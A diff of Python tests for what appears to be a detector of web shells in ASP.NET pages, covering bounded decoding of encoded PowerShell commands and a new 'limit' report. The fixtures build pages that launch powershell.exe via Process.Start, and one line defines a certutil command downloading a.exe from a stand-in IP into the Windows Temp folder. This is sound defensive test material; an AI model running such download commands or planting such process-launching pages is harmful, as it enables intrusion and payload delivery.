@@ -139,8 +139,17 @@ def test_decoding_is_bounded_and_exact() -> None:
     assert decoded("QUJDREVGR0g=") is None  # "ABCDEFGH": bytes, not UTF-16LE text
     assert decoded("not base64!") is None
     line = "powershell " + " ".join(f"-enc {encoded(f'echo {i}')}" for i in range(20))
-    assert decoded_commands(line) == [f"echo {i}" for i in range(8)]
-    assert decoded_commands("cmd /c dir") == []
+    assert decoded_commands(line) == ([f"echo {i}" for i in range(8)], True)
+    assert decoded_commands("cmd /c dir") == ([], False)
+
+
+def test_encoded_commands_past_the_bound_are_a_limit_problem() -> None:
+    # Fail closed: what was not decoded is said, so the page is not read as fully judged.
+    line = "-nop " + " ".join(f"-enc {encoded(f'echo {i}')}" for i in range(12))
+    report = run("many.aspx", cs_page(f'System.Diagnostics.Process.Start("powershell.exe", "{line}");'))
+    assert any(p.kind == "limit" and "encoded PowerShell commands" in p.message for p in report.problems)
+    few = run("few.aspx", cs_page(f'System.Diagnostics.Process.Start("powershell.exe", "-enc {encoded("echo 1")}");'))
+    assert not any(p.kind == "limit" for p in few.problems)
 
 
 CERTUTIL = "/c certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\\\Windows\\\\Temp\\\\a.exe"
